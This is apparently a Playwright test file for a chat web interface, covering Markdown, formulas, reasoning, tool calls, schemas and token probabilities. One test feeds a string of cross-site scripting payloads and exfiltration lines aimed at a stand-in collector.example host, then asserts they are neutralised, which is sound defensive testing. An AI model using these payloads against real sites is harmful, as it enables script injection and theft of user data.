"""What answers look like: Markdown, code, formulas, hostile text, reasoning, tools, schemas, log probabilities.

Tests marked `scripted` have the answer come from a stand-in for the server, because they need an answer of a given
shape."""

import json

import pytest
from playwright.sync_api import expect

MARKDOWN = r"""# Title

Some *words* with `code`, and $e^{i\pi} = -1$ or \(x^2\).

$$\int_0^1 x^2\,dx = \frac13$$

| a | b |
|---|---|
| 1 | 2 |

```python
def f(x):
    return x  # one
```

1. first
2. second

> quoted
"""


def pieces(text, size=7):
    return [{"content": text[i:i + size]} for i in range(0, len(text), size)]


@pytest.mark.scripted
def test_markdown_tables_code_and_formulas(chat):
    chat.script(pieces(MARKDOWN))
    chat.ask("Show me.")
    answer = chat.answers.last
    expect(answer.get_by_role("heading", name="Title")).to_be_visible()
    expect(answer.locator("table td").nth(1)).to_have_text("2")
    expect(answer.locator(".katex").nth(2)).to_be_visible()
    expect(answer.locator(".katex-display")).to_be_visible()
    expect(answer.locator("pre .hljs-keyword").first).to_have_text("def")
    expect(answer.locator("ol li")).to_have_count(2)
    expect(answer.locator("blockquote")).to_have_text("quoted")
    # A formula stands on its line: KaTeX's style attributes are let through.
    assert answer.locator(".katex .vlist").first.evaluate("e => e.style.height") != ""
    chat.button("Copy", answer.locator(".code")).click()
    expect(answer.locator(".code")).to_contain_text("Copied")


HOSTILE = """<script>window.hacked = 1</script>
<img src=x onerror="window.hacked = 2">
<iframe src="javascript:parent.hacked = 3"></iframe>
<svg onload="window.hacked = 4"><use href="data:image/svg+xml,x"></use></svg>

[click](javascript:window.hacked=5) [data](data:text/html,<script>window.hacked=6</script>) <javascript:window.hacked=7>

![tell](http://collector.example/?secret=1)

$\\href{javascript:window.hacked=8}{x}$ $\\htmlData{a=b}{y}$ $\\includegraphics{http://collector.example/a.png}$
$\\def\\a{\\a\\a}\\a$

```"><script>window.hacked=9</script>
</code></pre><img src=x onerror=window.hacked=10>
```

<a href="http://x.example" onclick="window.hacked = 11" style="position:fixed;inset:0">link</a>
<form action="http://collector.example"><input name=q></form> <style>* {display: none}</style>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=12&gt;">
[fine](https://example.org/a?b=c)
"""


@pytest.mark.scripted
def test_hostile_text_stays_text(chat, server):
    elsewhere = []
    chat.page.on("request", lambda request: elsewhere.append(request.url) if not request.url.startswith(
        (server.url, "data:", "blob:")) else None)
    chat.script(pieces(HOSTILE, 11))
    chat.type_and_send("Be nasty. " + HOSTILE)
    chat.wait_for_answer()
    answer = chat.answers.last
    for href in [link.get_attribute("href") for link in answer.locator("a").all()]:
        assert href.startswith(("http://", "https://"))
    expect(answer.get_by_role("link", name="fine")).to_have_attribute("rel", "noopener noreferrer nofollow")
    assert answer.locator("script, iframe, img, form, input, style, svg use, [onclick], [onerror], [onload]").count() == 0
    chat.page.wait_for_timeout(300)
    assert chat.page.evaluate("window.hacked") is None
    assert elsewhere == []
    expect(chat.composer).to_be_visible()


@pytest.mark.scripted
def test_reasoning_is_folded(chat):
    chat.script([{"reasoning_content": "Let me "}, {"reasoning_content": "think."}, {"content": "Done."}])
    chat.ask("Think.")
    folded = chat.answers.last.locator("details.reasoning")
    expect(folded).to_contain_text("Reasoning")
    expect(folded.get_by_text("Let me think.")).to_be_hidden()
    folded.locator("summary").click()
    expect(folded.get_by_text("Let me think.")).to_be_visible()
    expect(chat.answers.last.get_by_text("Done.")).to_be_visible()


def tool_call(idx, call_id, name, *arguments):
    head = {"tool_calls": [{"index": idx, "id": call_id, "type": "function", "function": {"name": name, "arguments": ""}}]}
    return [head, *({"tool_calls": [{"index": idx, "function": {"arguments": part}}]} for part in arguments)]


@pytest.mark.scripted
def test_tools_are_called_and_answered(open_page, server):
    chat = open_page(server.url, {"toolsOn": True})
    requests = chat.script([*tool_call(0, "c1", "add", '{"a": 3', ', "b": 5}'), *tool_call(1, "c2", "mul", '{"a": 2, "b": 4}')],
                           [{"content": "8 and 8."}])
    chat.ask("Compute (3+5) and 2*4.")
    assert [tool["function"]["name"] for tool in requests[0]["tools"]] == ["add", "mul"]
    assert requests[0]["tool_choice"] == "auto"
    cards = chat.page.locator(".tool-call")
    expect(cards).to_have_count(2)
    expect(cards.first).to_contain_text("add called")
    expect(cards.first).to_contain_text("a: 3, b: 5")
    expect(chat.page.locator(".tool-result")).to_have_text(["add8", "mul8"])
    expect(chat.answers.last).to_contain_text("8 and 8.")
    sent = requests[1]["messages"]
    assert [message["role"] for message in sent] == ["user", "assistant", "tool", "tool"]
    assert sent[1]["tool_calls"][0]["function"] == {"name": "add", "arguments": '{"a": 3, "b": 5}'}
    assert (sent[2]["tool_call_id"], sent[2]["content"]) == ("c1", "8")


def define_tool(chat, name, answer):
    panel = chat.settings()
    chat.button("Define a tool", panel).click()
    dialog = chat.page.get_by_role("dialog")
    dialog.get_by_role("textbox", name="Name", exact=True).fill(name)
    dialog.get_by_role("textbox", name="What it does").fill("The weather of a city")
    dialog.get_by_role("textbox", name="What it returns").fill(answer)
    chat.button("Save", dialog).click()
    chat.close_settings()


@pytest.mark.scripted
def test_tools_of_ones_own_answer_from_a_template_or_by_hand(open_page, server):
    chat = open_page(server.url, {"toolsOn": True})
    define_tool(chat, "weather", "21 degrees in {{city}}")
    define_tool(chat, "mood", "")
    requests = chat.script(tool_call(0, "c1", "weather", '{"city": "Rome"}'), tool_call(0, "c2", "mood", "{}"), [{"content": "Fine."}])
    chat.ask("How is it?")
    expect(chat.page.locator(".tool-result")).to_have_text("weather21 degrees in Rome")
    chat.page.get_by_role("textbox", name="What does mood return?").fill("sunny")
    chat.button("Send results").click()
    expect(chat.answers.last).to_contain_text("Fine.")
    assert requests[2]["messages"][-1]["content"] == "sunny"


def test_answers_can_be_bound_to_a_schema(chat):
    schema = {"type": "object", "properties": {"year": {"type": "integer", "minimum": 1, "maximum": 2100}},
              "required": ["year"], "additionalProperties": False}
    panel = chat.settings()
    panel.get_by_role("switch", name="Answers fit a JSON Schema").check()
    field = panel.get_by_role("textbox", name="JSON Schema", exact=True)
    field.fill("{")
    expect(panel.get_by_role("alert")).to_contain_text("Not JSON")
    field.fill(json.dumps(schema))
    chat.close_settings()
    answer = json.loads(chat.ask("When was the Eiffel Tower built?"))
    assert list(answer) == ["year"] and 1 <= answer["year"] <= 2100


def test_the_server_takes_the_pages_tools(open_page, server):
    chat = open_page(server.url, {"toolsOn": True})
    with chat.page.expect_response("**/v1/chat/completions") as response:
        chat.ask("Hello!")
    assert response.value.status == 200


def test_tokens_are_coloured_by_their_probability(open_page, server):
    chat = open_page(server.url, {"logprobs": True})
    answer = chat.ask("What is the capital of France?")
    chat.act(chat.answers.last, "Token probabilities")
    view = chat.answers.last.locator(".tokens-view")
    tokens = view.locator(".token")
    assert "".join(tokens.all_text_contents()).strip().startswith(answer)  # and then the end, <|im_end|>
    shades = {token.get_attribute("class") for token in tokens.all()}
    assert "token p9" in shades
    tokens.first.click()
    expect(view.locator(".alternatives .choice")).to_have_count(5)
    expect(view.locator(".choice.drawn")).to_have_count(1)
    assert tokens.first.get_attribute("title").endswith("%")
